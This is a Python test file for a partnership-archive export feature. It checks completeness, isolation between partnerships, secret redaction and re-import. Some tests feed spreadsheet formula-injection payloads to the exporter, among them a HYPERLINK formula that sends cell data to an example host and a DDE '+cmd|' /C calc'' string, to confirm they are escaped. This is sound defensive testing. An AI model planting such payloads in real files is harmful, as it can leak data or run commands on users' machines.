"""Everything about one partnership in one archive: whole, harmless, without secrets, and of that partnership alone."""

import csv
import email
import email.policy
import io
import re
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, SQLModel, select

from languages import Language
from sectorlaunch import database
from sectorlaunch.export import archive as archive_export
from sectorlaunch.export import belonging, cells
from sectorlaunch.files import contacts_file, partnership_file
from sectorlaunch.outbox import channels
from sectorlaunch.outbox.deliver import dispatcher
from sectorlaunch.records import partnerships
from sectorlaunch.records.launch import Launch as LaunchAtHand
from sectorlaunch.settings import Settings
from sectorlaunch.tables import Event, Message, MessageState, Partnership, Person
from tests.cast import MONDAY, Launch, begin

PRIVATE = re.compile(rb"/(p|u|sign-in)/[A-Za-z0-9_-]{16,}")


def archive_of(launch: Launch, slug: str = "fernwater") -> zipfile.ZipFile:
    written = io.BytesIO()
    with database.reading(launch.engine) as session:
        archive_export.write(
            LaunchAtHand.of_partnership(session, launch.now, partnerships.find(session, slug)), written
        )
    return zipfile.ZipFile(written)


def table(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(f"tables/{name}.csv").decode("utf-8-sig"))))


@pytest.fixture
def launch(engine: Engine, tmp_path: Path) -> Launch:
    """A partnership under way, its first letters delivered to the local mailbox."""
    launch = begin(engine, tmp_path)
    launch.wait(0)
    dispatcher.run_once(engine, MONDAY + timedelta(minutes=1), Settings(home=tmp_path / "home"))
    return launch


@pytest.mark.parametrize("name", sorted(SQLModel.metadata.tables))
def test_it_takes_every_table_or_says_why_not(name: str) -> None:
    found = SQLModel.metadata.tables[name]
    if name in belonging.LEFT_OUT:
        return
    assert str(belonging.belongs(found, 1))


def test_it_names_only_columns_there_are() -> None:
    there = {f"{t.name}.{c.name}" for t in SQLModel.metadata.tables.values() for c in t.columns}
    assert set(belonging.ELSEWHERE) <= there
    assert set(belonging.LEFT_OUT) <= set(SQLModel.metadata.tables)


def test_it_holds_every_row_of_the_partnership(launch: Launch) -> None:
    archive = archive_of(launch)
    with database.reading(launch.engine) as session:
        events = session.exec(select(Event).where(Event.run_id == launch.run_id)).all()
        people = session.exec(select(Person)).all()
    assert len(table(archive, "event")) == len(events) > 0
    assert {row["name"] for row in table(archive, "person")} == {person.name for person in people}


def test_it_writes_the_name_beside_the_number_of_a_person(launch: Launch) -> None:
    roles = table(archive_of(launch), "role")
    assert ("convener", "Cora Venner") in {(row["kind"], row["person_name"]) for row in roles}


def test_it_holds_nothing_of_another_partnership(launch: Launch, tmp_path: Path) -> None:
    with database.unit_of_work(launch.engine, MONDAY) as session:
        other = Partnership(
            slug="zyxwind",
            name="Zyxwind",
            industry="Mining",
            region="Far off",
            zone="America/Denver",
            created_at=MONDAY,
        )
        session.add(other)
        session.flush()
        session.add(
            Person(partnership_id=other.pk, name="Ella Zyxwind", email="ella@example.com", created_at=MONDAY)
        )
    words = b"".join(archive_of(launch).read(name) for name in archive_of(launch).namelist())
    assert b"yxwind" not in words


def test_it_holds_the_letters_as_mail_programs_open_them(launch: Launch) -> None:
    archive = archive_of(launch)
    letters = [name for name in archive.namelist() if name.startswith("letters/")]
    with database.reading(launch.engine) as session:
        sent = session.exec(select(Message).where(Message.state == MessageState.SENT)).all()
    assert len(letters) == len(sent) > 0
    first = email.message_from_bytes(archive.read(letters[0]), policy=email.policy.default)
    assert first["To"]
    assert first["Subject"]


def test_it_gives_no_secret_away(launch: Launch) -> None:
    with database.unit_of_work(launch.engine, MONDAY) as session:
        channels.add(
            session, MONDAY, "email", "letters://keeper:open-sesame@mail.example.org?from=launch@example.org"
        )
    archive = archive_of(launch)
    for name in archive.namelist():
        content = archive.read(name)
        if name.endswith(".eml"):
            letter = email.message_from_bytes(content, policy=email.policy.default)
            parts = [part.get_content() for part in letter.walk() if not part.is_multipart()]
            content = "".join(str(part) for part in parts).encode() + str(letter.items()).encode()
        assert not PRIVATE.search(content), name
        assert b"open-sesame" not in content, name


def test_it_never_lets_a_name_be_taken_for_a_formula(launch: Launch) -> None:
    with database.unit_of_work(launch.engine, MONDAY) as session:
        person = session.exec(select(Person).where(Person.name == "Biz Alder")).one()
        person.name = '=HYPERLINK("http://example.com/?"&A1,"press")'
        session.add(person)
    names = [row["name"] for row in table(archive_of(launch), "person")]
    assert not [name for name in names if name.startswith("=")]
    assert [name for name in names if name.startswith("'=HYPERLINK")]


@pytest.mark.parametrize(
    ("words", "written"),
    [
        ("plain", "plain"),
        ("+1 (970) 555-0100", "+1 (970) 555-0100"),
        ("-12.5", "-12.5"),
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        (None, ""),
        (True, "yes"),
        ({"a": ["b"]}, '{"a": ["b"]}'),
        (MONDAY, "2026-03-02T16:00:00Z"),
        (MONDAY.date(), "2026-03-02"),
    ],
)
def test_it_writes_cells_that_do_nothing(words: object, written: str) -> None:
    assert cells.cell(words) == written


def test_it_can_be_started_again_from_its_files(launch: Launch, tmp_path: Path) -> None:
    archive_of(launch).extractall(tmp_path / "away")
    file = partnership_file.read(tmp_path / "away" / "partnership.yaml", launch.now.date())
    contacts = contacts_file.read(tmp_path / "away" / "contacts.csv")
    assert file.slug == "fernwater"
    assert "Champ One" in {contact.name for contact in contacts.contacts}


def test_it_takes_the_languages_along(launch: Launch, tmp_path: Path) -> None:
    def speak(session: Session, _now: datetime) -> None:
        champion = session.get_one(Person, launch.person(session, "Champ One"))
        partnership = session.get_one(Partnership, champion.partnership_id)
        partnership.language, champion.language = Language.SPANISH, Language.ENGLISH

    launch.do(speak)
    archive_of(launch).extractall(tmp_path / "away")
    file = partnership_file.read(tmp_path / "away" / "partnership.yaml", launch.now.date())
    contacts = contacts_file.read(tmp_path / "away" / "contacts.csv").contacts
    assert file.language is Language.SPANISH
    assert [one.language for one in contacts if one.name == "Champ One"] == [Language.ENGLISH]
    assert {one.language for one in contacts if one.name != "Champ One"} == {None}


def test_it_takes_assistants_along_and_guards_the_contacts_like_every_table(
    launch: Launch, tmp_path: Path
) -> None:
    def change(session: Session, _now: datetime) -> None:
        person = session.get_one(Person, launch.person(session, "Champ One"))
        person.name = '=HYPERLINK("https://example.org")'
        person.assistant_name, person.assistant_email = "Ada Desk", "ada.desk@example.org"
        person.assistant_phone = "+1 970 555 0199"
        session.add(person)

    launch.do(change)
    archive_of(launch).extractall(tmp_path / "away")
    text = (tmp_path / "away" / "contacts.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    (found,) = [
        contact
        for contact in contacts_file.read(tmp_path / "away" / "contacts.csv").contacts
        if "HYPERLINK" in contact.name
    ]
    assert found.assistant is not None
    assert (found.assistant.name, found.assistant.email) == ("Ada Desk", "ada.desk@example.org")
    assert "970" in found.assistant.phone


def test_it_says_what_is_what(launch: Launch) -> None:
    archive = archive_of(launch)
    words = archive.read("README.txt").decode()
    assert "Fernwater Valley Partnership" in words
    assert "accesslink: personal links" in words
    assert archive.read("calendar.ics").startswith(b"BEGIN:VCALENDAR")


def test_it_changes_nothing(launch: Launch) -> None:
    def count(session: Session) -> int:
        return len(session.exec(select(Event)).all())

    with database.reading(launch.engine) as session:
        before = count(session)
    archive_of(launch)
    with database.reading(launch.engine) as session:
        assert count(session) == before
